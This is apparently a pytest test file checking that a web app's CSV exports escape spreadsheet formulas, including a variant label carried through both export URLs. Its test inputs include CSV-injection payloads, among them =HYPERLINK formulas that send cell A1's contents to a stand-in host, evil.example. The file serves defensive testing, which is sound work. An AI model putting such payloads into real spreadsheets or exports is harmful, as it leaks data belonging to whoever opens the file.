"""CSV exports are safe to open in a spreadsheet (vmemsite/csv_safe.py)."""

from __future__ import annotations

import csv
import io

import pytest

from vmemsite.csv_safe import CsvLines, safe_cell
from vmemsite.runs.services import run_create, run_execute

from .conftest import classic, sequence


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example","x")', "+1+2", "-2+3",
                                  "@SUM(A1)", "\t=1", "\r=1"])
def test_formulas_become_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["lru @ 300", "", "-3", "+4.5", "-1.5e-05", 7, -2, 0.25,
                                   None, "a=b"])
def test_numbers_and_plain_text_are_kept(value):
    assert safe_cell(value) == value


def test_lines_quote_as_csv_does():
    lines = CsvLines(lineterminator="\n")
    text = lines.row(["a,b", "=1", 3]) + lines.rows([["x"], ["-y"]])
    assert list(csv.reader(io.StringIO(text))) == [["a,b", "'=1", "3"], ["x"], ["'-y"]]


@pytest.mark.django_db
def test_a_variant_label_cannot_run_in_a_spreadsheet(client, user):
    label = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    run = run_create(owner=user, submit=False, config=classic("fifo", 3), workload=sequence(),
                     variants=[{"label": label, "policy": "fifo"}, {"policy": "lru"}])
    run_execute(run_id=run.pk, publisher=lambda *a: None)
    client.force_login(user)
    for url in (f"/runs/{run.pk}/windows.csv", f"/api/runs/{run.pk}/windows.csv"):
        text = b"".join(client.get(url).streaming_content).decode()
        cells = [row[0] for row in csv.reader(io.StringIO(text))]
        assert "'" + label in cells and label not in cells
        assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
